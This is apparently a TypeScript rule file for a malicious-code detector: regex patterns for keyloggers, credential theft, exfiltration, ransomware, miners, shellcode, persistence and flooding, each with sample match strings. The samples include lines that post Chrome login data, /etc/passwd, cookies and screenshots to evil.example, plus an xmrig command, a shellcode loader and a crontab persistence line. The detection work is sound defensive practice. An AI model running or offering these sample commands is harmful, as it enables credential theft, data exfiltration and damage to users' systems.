// Data: rules of the `malicious_code` detector (credential theft, exfiltration, ransomware, miners, shellcode, persistence, denial of service); `rules.ts` joins the parts.
import type { DocumentedRule } from "../rule-set.js";
import { maliciousRule as r } from "./malicious-rule.js";

/** Harmful code: credential theft, exfiltration, ransomware, miners, shellcode, persistence, denial of service. */
export const THEFT_IMPACT_RULES: readonly DocumentedRule[] = [
  r(
    "keylogger",
    /\bpynput\.keyboard\b|\bkeyboard\.(?:on_press|hook|Listener)\b|\bGetAsyncKeyState\b|\bSetWindowsHookEx[AW]?\b[^\n]{0,256}WH_KEYBOARD|\bkeylog/gi,
    0.85,
    "high",
    {
      id: "malicious_code.keylogger",
      meaning: "Code that records keystrokes: `keylog` and the like.",
      matches: ["swift PathToAtomicsFolder/T1056.001/src/MacOSKeylogger.swift -keylog"],
      ignores: ["from pynput import mouse"],
    },
  ),
  r(
    "credential_theft",
    /(?:Login Data|Cookies|Local State|logins\.json|key[34]\.db|\.ssh\/id_rsa|\/etc\/shadow|\.aws\/credentials|wallet\.dat)\b[\s\S]{0,300}?\b(?:requests\.post|urllib|fetch|XMLHttpRequest|sendall|send\(|upload|smtp)/gi,
    0.85,
    "critical",
    {
      id: "malicious_code.credential_theft_login_data",
      meaning:
        "Code that steals browser or system credentials: `data = open(home + '/.config/google-chrome/De…` and the like.",
      matches: [
        "data = open(home + '/.config/google-chrome/Default/Login Data', 'rb').read(); requests.post('https://evil.example/u', data=data)",
      ],
      ignores: ["Open Chrome and clear the Cookies in settings."],
    },
  ),
  r(
    "credential_theft",
    /\bCryptUnprotectData\b|\bwin32crypt\b|\bsqlite3\.connect\([^)]{0,256}(?:Login Data|Cookies)/g,
    0.85,
    "high",
    {
      id: "malicious_code.credential_theft_cryptunprotectdata",
      meaning: "Code that steals browser or system credentials: `import win32crypt` and the like.",
      matches: ["import win32crypt"],
      ignores: ["cd ~/Library/Cookies"],
    },
  ),
  r(
    "credential_theft",
    /document\.cookie[\s\S]{0,120}?(?:fetch|XMLHttpRequest|\.src\s*=|navigator\.sendBeacon|location\s*=)|(?:fetch|\.src\s*=|sendBeacon)[\s\S]{0,120}?document\.cookie/g,
    0.85,
    "high",
    {
      id: "malicious_code.credential_theft_document_cookie",
      meaning:
        "Code that steals browser or system credentials: `fetch('https://evil.example/c?d=' + document.…` and the like.",
      matches: ["fetch('https://evil.example/c?d=' + document.cookie)"],
      ignores: ["document.cookie = 'theme=dark'"],
    },
  ),
  r(
    "exfiltration",
    /\bopen\s*\([^)]{0,256}\)\s*(?:as\s+\w+\s*:)?[\s\S]{0,120}?requests\.post\s*\(\s*['"]https?:\/\/(?!localhost|127\.0\.0\.1)/g,
    0.7,
    "medium",
    {
      id: "malicious_code.exfiltration_requests_post",
      meaning:
        "Code that sends local data to a remote host: `with open('/etc/passwd') as f: requests.post(…` and the like.",
      matches: ["with open('/etc/passwd') as f: requests.post('https://evil.example/u', data=f.read())"],
      ignores: ["requests.post('http://localhost:8080/upload', data=open('report.csv').read())"],
    },
  ),
  r(
    "exfiltration",
    /\b(?:getpass\.getuser|os\.environ|platform\.node|socket\.gethostname)\b[\s\S]{0,200}?\.(?:send|sendall|post)\s*\(/g,
    0.75,
    "medium",
    {
      id: "malicious_code.exfiltration_getpass_getuser",
      meaning:
        "Code that sends local data to a remote host: `info = os.environ; s.send(str(info).encode())` and the like.",
      matches: ["info = os.environ; s.send(str(info).encode())"],
      ignores: ["sock.sendall(data)"],
    },
  ),
  r(
    "ransomware",
    /\b(?:Fernet|AES\.new|Cipher\s*\()[\s\S]{0,400}?\bos\.walk\b[\s\S]{0,400}?\b(?:os\.remove|unlink|write)|\bos\.walk\b[\s\S]{0,400}?\b(?:Fernet|AES\.new|encrypt)\b[\s\S]{0,400}?(?:os\.remove|ransom|bitcoin|\.locked|\.encrypted)/g,
    0.85,
    "critical",
    {
      id: "malicious_code.ransomware",
      meaning:
        "Code that encrypts files while walking the tree: `f = Fernet(key) for root, _, files in os.walk…` and the like.",
      matches: [
        "f = Fernet(key)\nfor root, _, files in os.walk('/home'):\n    os.remove(os.path.join(root, files[0]))",
      ],
      ignores: ["for root, dirs, files in os.walk('.'): print(files)"],
    },
  ),
  r(
    "cryptominer",
    /\bxmrig\b|\bstratum\+(?:tcp|ssl):\/\/|\bcoinhive\b|\bcryptonight\b|\bminerd\b/gi,
    0.9,
    "high",
    {
      id: "malicious_code.cryptominer",
      meaning: "Cryptocurrency miner: `./xmrig -o stratum+tcp://pool.minexmr.com:444…` and the like.",
      matches: ["./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u WALLET"],
      ignores: ["Mining pool statistics for the week."],
    },
  ),
  r(
    "shellcode",
    /\bVirtualAlloc(?:Ex)?\b[\s\S]{0,300}?\b(?:RtlMoveMemory|WriteProcessMemory|memmove|CreateThread|CreateRemoteThread)\b|\bctypes\.(?:windll|cdll)\.kernel32\.(?:VirtualAlloc|CreateRemoteThread)|(?:\\x[0-9a-fA-F]{2}){32,}/g,
    0.85,
    "critical",
    {
      id: "malicious_code.shellcode",
      meaning: "Shellcode loader or payload: `addr = ctypes.windll.kernel32.VirtualAlloc(0,…` and the like.",
      matches: [
        "addr = ctypes.windll.kernel32.VirtualAlloc(0, len(buf), 0x3000, 0x40); ctypes.windll.kernel32.RtlMoveMemory(addr, buf, len(buf))",
      ],
      ignores: ["buf = b'\\x90\\x90'"],
    },
  ),
  r(
    "persistence",
    /\\CurrentVersion\\Run\b|\bschtasks\s+\/create\b|\bcrontab\b[\s\S]{0,80}?(?:@reboot|\*\s+\*\s+\*)|HKLM\\SYSTEM\\CurrentControlSet\\Services/gi,
    0.7,
    "medium",
    {
      id: "malicious_code.persistence",
      meaning:
        'Code that installs itself to run at startup: `crontab -l > /tmp/notevil echo "* * *` and the like.',
      matches: [
        'crontab -l > /tmp/notevil\necho "* * * * * /tmp/evil.sh" > /tmp/persistevil && crontab /tmp/persistevil\n',
      ],
      ignores: ["crontab -l"],
    },
  ),
  r(
    "dos",
    /\bwhile\s*\(?\s*(?:true|True|1)\s*\)?\s*[:{][\s\S]{0,120}?(?:requests\.(?:get|post)|fetch\(|socket\.sendto|os\.fork|fork\(\)|new\s+Worker)/g,
    0.7,
    "medium",
    {
      id: "malicious_code.dos",
      meaning:
        "Code that floods a service or forks forever: `while True: requests.get('https://target.exam…` and the like.",
      matches: ["while True:\n    requests.get('https://target.example/')"],
      ignores: ["while True:\n    time.sleep(60)"],
    },
  ),
  r(
    "network_block",
    /\b(?:iptables\s+-A\s+OUTPUT[^\n]{0,256}-j\s+DROP|netsh\s+advfirewall[^\n]{0,256}block|route\s+delete\s+0\.0\.0\.0|ifconfig\s+\S+\s+down|ip\s+link\s+set\s+\S+\s+down)\b/gi,
    0.75,
    "medium",
    {
      id: "malicious_code.network_block",
      meaning: "Code that cuts the host off the network: `ifconfig {{interface_name}} down` and the like.",
      matches: ["ifconfig {{interface_name}} down"],
      ignores: ["ip link set eth0 up"],
    },
  ),
  r(
    "screen_capture",
    /\b(?:ImageGrab\.grab|pyautogui\.screenshot|mss\(\)\.shot|screencapture)\b[\s\S]{0,200}?(?:requests\.post|send|upload|smtp)/g,
    0.75,
    "medium",
    {
      id: "malicious_code.screen_capture",
      meaning:
        "Code that captures the screen and sends it away: `img = ImageGrab.grab(); img.save('s.png'); re…` and the like.",
      matches: [
        "img = ImageGrab.grab(); img.save('s.png'); requests.post('https://evil.example/u', files={'f': open('s.png', 'rb')})",
      ],
      ignores: ["img = ImageGrab.grab(); img.save('screen.png')"],
    },
  ),
];
